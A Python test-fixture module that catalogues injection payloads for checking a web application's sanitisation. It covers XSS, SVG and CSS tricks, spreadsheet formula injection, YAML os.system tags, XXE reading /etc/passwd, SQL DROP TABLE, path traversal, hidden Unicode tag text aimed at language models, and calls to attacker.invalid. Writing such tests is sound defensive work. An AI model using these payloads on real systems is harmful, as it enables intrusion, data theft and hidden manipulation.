"""Texts that would do harm if a page, a picture, a feed or a file took them for more than text.

Each has a name, what it would do if it worked, and a family. What runs sets `attacked` on the window or asks
for something of `attacker.invalid`, so that a browser in which any of them works is caught at it.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, NamedTuple

if TYPE_CHECKING:
    from collections.abc import Sequence


class Attack(NamedTuple):
    """A text, and what it would do."""

    name: str
    harm: str
    text: str

    @property
    def is_line(self) -> bool:
        """Say whether it fits into a title or a label."""
        return len(self.text) <= 100 and not set(self.text) & set("\n\r\x85\u2028\u2029")


SCRIPT = [
    Attack("plain script", "runs", "<script>attacked=1</script>"),
    Attack("capitals", "runs where tags are looked for in small letters", "<ScRiPt>attacked=1</sCrIpT >"),
    Attack("script with a slash", "runs where a blank is looked for", "<script/x>attacked=1</script/y>"),
    Attack(
        "nested script",
        "becomes a script once the inner one is cut out",
        "<scr<script>ipt>attacked=1</script>",
    ),
    Attack(
        "unclosed script", "runs, and takes the rest of the page along", "<script src=//attacker.invalid/x.js"
    ),
    Attack("image error", "runs when the picture is missing", "<img src=x onerror=attacked=1>"),
    Attack("image without blanks", "runs", "<img/src=x/onerror=attacked=1>"),
    Attack(
        "image with a line end",
        "runs; the blank is a form feed elsewhere",
        "<img\nsrc=x\nonerror=attacked=1>",
    ),
    Attack("unclosed image", "takes the next tag for attributes", '<img src="x" onerror="attacked=1" alt="'),
    Attack("focus", "runs at once", "<input autofocus onfocus=attacked=1>"),
    Attack("details", "runs when it is opened", "<details open ontoggle=attacked=1>x</details>"),
    Attack("marquee", "runs in old engines", "<marquee onstart=attacked=1>x</marquee>"),
    Attack("media", "runs when nothing can be played", "<video><source onerror=attacked=1></video>"),
    Attack("link", "runs when it is followed", "<a href=javascript:attacked=1>follow</a>"),
    Attack("link with a tab", "is javascript: to a browser", '<a href="java\tscript:attacked=1">follow</a>'),
    Attack(
        "link with entities", "is javascript: once read", '<a href="&#106;avascript&colon;attacked=1">x</a>'
    ),
    Attack("link after a blank", "is javascript: once trimmed", '<a href=" javascript:attacked=1">x</a>'),
    Attack(
        "data link",
        "shows a page of the attacker's",
        "<a href='data:text/html,<script>attacked=1</script>'>x</a>",
    ),
    Attack("vbscript link", "runs in old browsers", "<a href=vbscript:attacked>x</a>"),
    Attack("frame", "shows another site as a part of this one", "<iframe src=//attacker.invalid></iframe>"),
    Attack(
        "frame with its own page",
        "runs in this origin",
        "<iframe srcdoc='<script>parent.attacked=1</script>'>",
    ),
    Attack("refresh", "leads elsewhere", '<meta http-equiv=refresh content="0;url=//attacker.invalid">'),
    Attack("base", "loads every script from elsewhere", "<base href=//attacker.invalid/>"),
    Attack(
        "form",
        "sends a password elsewhere",
        "<form action=//attacker.invalid><input name=p><button>Go</form>",
    ),
    Attack(
        "button",
        "turns a form elsewhere",
        "<button formaction=//attacker.invalid form=filters>Search</button>",
    ),
    Attack(
        "object",
        "shows another site",
        "<object data=//attacker.invalid></object><embed src=//attacker.invalid>",
    ),
    Attack("style sheet", "changes the page", "<link rel=stylesheet href=//attacker.invalid/x.css>"),
    Attack("end of the title", "ends the title", "</title><script>attacked=1</script>"),
    Attack("end of a textarea", "ends the field", "</textarea><script>attacked=1</script>"),
    Attack("end of a script", "ends the data", "</script><script>attacked=1</script>"),
    Attack("end of a style", "ends the rules", "</style><script>attacked=1</script>"),
    Attack("comment", "hides the rest", "<!-- "),
    Attack("end of a comment", "ends one", "--><script>attacked=1</script>"),
    Attack("odd end of a comment", "ends one", "--!><script>attacked=1</script>"),
    Attack("character data", "hides the rest of a feed", "<![CDATA["),
    Attack("end of character data", "ends it", "]]><script>attacked=1</script>"),
    Attack(
        "instruction",
        "is read by a server or as a style sheet",
        '<?xml-stylesheet href="//attacker.invalid"?>',
    ),
    Attack("template", "is another tree once moved", "<template><script>attacked=1</script></template>"),
    Attack(
        "noscript",
        "changes when scripts run",
        '<noscript><p title="</noscript><img src=x onerror=attacked=1>">',
    ),
    Attack(
        "mutation",
        "changes when it is written again",
        "<math><mtext><table><mglyph><style><img src=x onerror=attacked=1>",
    ),
    Attack("double quote", "ends an attribute", '" onmouseover="attacked=1" autofocus onfocus="attacked=1'),
    Attack("single quote", "ends an attribute", "' onmouseover='attacked=1' autofocus onfocus='attacked=1"),
    Attack("back quote", "ends an attribute in old browsers", "` onmouseover=attacked=1 `"),
    Attack("no quote", "ends an attribute without quotes", "x onmouseover=attacked=1"),
    Attack("end of a tag", "ends the tag", '"><script>attacked=1</script>'),
    Attack(
        "template tag", "is run by the server", "{% load static %}{{ request.user.password }}{{ 7|add:7 }}"
    ),
    Attack("format field", "reads what is near", "{name.__class__.__init__.__globals__} %(title)s %s %n {0}"),
    Attack("htmx", "asks and swaps", '<b data-hx-get="//attacker.invalid" data-hx-trigger="load">x</b>'),
]

SVG = [
    Attack("svg", "runs when it is shown", "<svg onload=attacked=1>"),
    Attack("svg script", "runs", "</text><script>attacked=1</script><text>"),
    Attack("foreign object", "is HTML within", "<foreignObject><body onload=attacked=1></foreignObject>"),
    Attack("use", "takes a picture from elsewhere", '<use xlink:href="//attacker.invalid/x.svg#x"/>'),
    Attack(
        "set", "changes where a link leads", '<a><set attributeName="href" to="javascript:attacked=1"/>x</a>'
    ),
    Attack("animate", "does so over time", '<animate attributeName="href" values="javascript:attacked=1"/>'),
    Attack("import", "loads rules", "<style>@import '//attacker.invalid/x.css';</style>"),
    Attack(
        "entity", "reads a file of the server", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;'
    ),
    Attack("base of a picture", "moves all addresses", '<g xml:base="//attacker.invalid/">'),
    Attack("picture in a picture", "asks another site", "<image href=//attacker.invalid/x.png />"),
    Attack("end of the picture", "goes on outside of it", "</svg><img src=x onerror=attacked=1>"),
]

CSS = [
    Attack("style attribute", "lies upon the page", '<p style="position:fixed;inset:0;z-index:9999">x</p>'),
    Attack("address in a style", "asks another site", "<p style='background:url(//attacker.invalid)'>x</p>"),
    Attack("expression", "runs in old browsers", '<p style="width:expression(attacked=1)">x</p>'),
    Attack("end of a rule", "adds one", "}*{background:url(//attacker.invalid)}/*"),
    Attack(
        "our ids",
        "is what scripts find in the place of the page's own",
        "<b id=code>x</b><b id=diagram>x</b>",
    ),
    Attack(
        "our names", "is what scripts find as properties", "<img name=body><form name=forms><b id=children>"
    ),
    Attack("our classes", "looks like a part of the page", "<p class='draft-note visually-hidden'>x</p>"),
    Attack("our data", "makes a part of the page act", '<b data-copy="code" data-viewer data-menu>x</b>'),
]

UNICODE = [
    Attack("override", "makes what follows read backwards", "Approve \u202etnemyap eht ton"),
    Attack("unclosed embedding", "turns what stands behind it", "Approve \u202bnow"),
    Attack("unclosed isolate", "turns what stands behind it", "Approve \u2067now"),
    Attack("zero width", "is another word than it looks", "Ap\u200bpro\u2060ve\ufeff"),
    Attack(
        "tags",
        "says something to a language model alone",
        "Go\U000e0049\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
    ),
    Attack("tower", "covers the lines above", "Z" + "\u0300\u0301\u0302\u0303" * 20),
    Attack("long word", "widens the page", "W" * 100),
    Attack("wide letters", "widens the page", "\ufdfd" * 40),
    Attack("look-alikes", "looks like markup to people", "\uff1cscript\uff1eattacked=1\uff1c/script\uff1e"),
    Attack("terminal colours", "writes what it likes on a terminal", "\x9b31mred\x9b2J"),
]

LINE_ENDS = [
    Attack("rare line ends", "ends a line of a script", "one\u2028attacked=1\u2029//two\x85three"),
    Attack(
        "header",
        "adds a header to an answer or a mail",
        "x\r\nSet-Cookie: attacked=1\r\n\r\n<script>attacked=1</script>",
    ),
]

REFUSED = [
    Attack("null", "ends a text in C", "a\0<script>attacked=1</script>"),
    Attack("escape", "commands a terminal", "\x1b]0;attacked\x07\x1b[2J"),
    Attack("half a character", "cannot be written at all", "a\ud800b"),
    Attack("no character", "is no XML: the feed as a whole cannot be read", "a\uffffb"),
]
"""What no text may hold."""

UNSEEN = [
    Attack("fillers", "is a name that nobody sees", "\u3164\u115f\u2800"),
    Attack("joiners", "is a name that nobody sees", "\u200d\u200c\u00ad"),
    Attack("only marks of direction", "is a name that nobody sees", "\u202e\u2066"),
]
"""What cannot be the name of anything."""

ENTITIES = [
    Attack("entities", "is markup where it is decoded once more", "&lt;script&gt;attacked=1&lt;/script&gt;"),
    Attack(
        "double entities",
        "is markup where it is decoded twice",
        "&amp;lt;script&amp;gt;attacked=1&amp;lt;/script&amp;gt;",
    ),
    Attack("numbers", "is markup without semicolons", "&#60script&#62attacked=1&#60/script&#62"),
    Attack("long numbers", "is markup, with zeros", "&#0000060;img src=x onerror=attacked=1&#x3e;"),
    Attack("percent signs", "is markup where addresses are decoded", "%3Cscript%3Eattacked=1%3C/script%3E"),
    Attack("escapes", "is markup in a script", r"\u003cscript\u003eattacked=1\x3c/script>"),
    Attack("no XML entity", "is an error in a feed", "&nbsp;&hellip;&unknown;"),
]

DATA = [
    Attack("end of a string", "adds to the data", '","@type":"Product","offers":"'),
    Attack("end of a string and backslash", "adds to the data", r'\","@type":"Product'),
    Attack("formula", "runs when a table is opened", '=HYPERLINK("//attacker.invalid","x")'),
    Attack("formula with a sign", "runs when a table is opened", "+cmd|' /C calc'!A0"),
    Attack("formula with an at", "runs when a table is opened", "@SUM(1+1)*cmd|' /C calc'!A0"),
    Attack("formula after a minus", "runs when a table is opened", "-2+3+cmd|' /C calc'!A0"),
    Attack("encoded word", "is a header once decoded", "=?utf-8?q?x=0D=0ABcc:_a@attacker.invalid?="),
    Attack("YAML tag", "makes an object", '!!python/object/apply:os.system ["true"]'),
    Attack("YAML alias", "grows without end", "*all &all [*all, *all]"),
    Attack("YAML key", "is another key", "x: y # z"),
    Attack("end of the front matter", "is the description", "--- x"),
    Attack("path", "leads out of a folder", "../../../etc/passwd"),
    Attack("statement", "changes the database", "'); DROP TABLE catalog_diagramtemplate; --"),
]

FLOWZAP = [
    Attack("end of a label", "adds an attribute", 'x" system:"y'),
    Attack("escape at the end", "escapes the quote", "x\\"),
    Attack("many escapes", "escapes the quote", 'x\\\\\\" y'),
    Attack("node", "adds a node", 'x" } Evil { # y'),
    Attack("remark", "hides the rest of the line", "x // y # z"),
]

MARKDOWN = [
    Attack("Markdown link", "runs when it is followed", "[x](javascript:attacked=1)"),
    Attack("Markdown link with entities", "runs when it is followed", "[x](java&#115;cript:attacked=1)"),
    Attack("Markdown link in capitals", "runs when it is followed", "[x](<JaVaScRiPt:attacked=1>)"),
    Attack("Markdown data link", "shows a page of the attacker's", "[x](data:text/html;base64,PHNjcmlwdD4=)"),
    Attack("Markdown picture", "asks another site", "![x](//attacker.invalid/x.png)"),
    Attack("autolink", "runs when it is followed", "<javascript:attacked=1>"),
    Attack("title of a link", "ends the attribute", "[x](/y '\"onmouseover=attacked=1 x=\"')"),
    Attack("code", "ends the code", "`</code><script>attacked=1</script>`"),
    Attack("brackets", "ends a link's words", "](//attacker.invalid) ![x](//attacker.invalid"),
]

MARKDOWN_BLOCKS = [
    Attack("reference", "runs when it is followed", "[x]\n\n[x]: javascript:attacked=1"),
    Attack("reference with a line end", "runs when it is followed", "[x]\n\n[x]: java\nscript:attacked=1"),
    Attack("info string", "ends the attribute", '``` x"onmouseover="attacked=1\ncode\n```'),
    Attack("attributes of a fence", "has an id", "``` { .x #code onclick=attacked=1 }\ncode\n```"),
    Attack("unclosed fence", "takes the rest for code", "```\nthe rest"),
    Attack("block of HTML", "runs", "<div>\n\n<script>\nattacked=1\n</script>\n\n</div>"),
    Attack("unclosed block of HTML", "hides the rest", "x\n\n<!-- y"),
    Attack("raw text", "takes the rest for text", "<textarea>\n\n<plaintext>"),
    Attack("table", "runs", "| a |\n| - |\n| <img src=x onerror=attacked=1> |"),
    Attack("ends of our elements", "leaves the description", "</div></section></main><h1>x</h1>"),
    Attack("placeholder", "is taken for what was put aside", "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03"),
]
"""What only a description takes for Markdown."""

SLOW = [
    Attack("open brackets", "takes long", "[" * 10_000),
    Attack("nested links", "takes long", "[" * 3_000 + "a" + "](b)" * 1_700),
    Attack("nested quotes", "takes long, or is too deep", ">" * 10_000),
    Attack("nested lists", "is too deep", "1. " * 3_300),
    Attack("stars", "takes long", "*a **a " * 1_400),
    Attack("open links", "takes long", "[a](" * 2_500),
    Attack("nested tags", "is too deep", "<b>" * 3_300),
]
"""What takes a careless reader of Markdown minutes, or all of its stack."""

LINES = [
    attack
    for family in (SCRIPT, SVG, CSS, UNICODE, ENTITIES, DATA, FLOWZAP, MARKDOWN)
    for attack in family
    if attack.is_line
]
"""What fits into any field."""

DESCRIPTIONS = [
    attack
    for attack in (
        *SCRIPT,
        *SVG,
        *CSS,
        *UNICODE,
        *LINE_ENDS,
        *ENTITIES,
        *DATA,
        *FLOWZAP,
        *MARKDOWN,
        *MARKDOWN_BLOCKS,
    )
    if "\x02" not in attack.text
]
"""What a description can hold."""


def packed(attacks: Sequence[Attack], length: int = 110) -> list[str]:
    """Return texts of at most so many characters that hold the attacks side by side: fewer pages."""
    texts = [""]
    for attack in attacks:
        longer = f"{texts[-1]} {attack.text}".strip()
        if len(longer) > length:
            texts.append(attack.text)
        else:
            texts[-1] = longer
    return texts
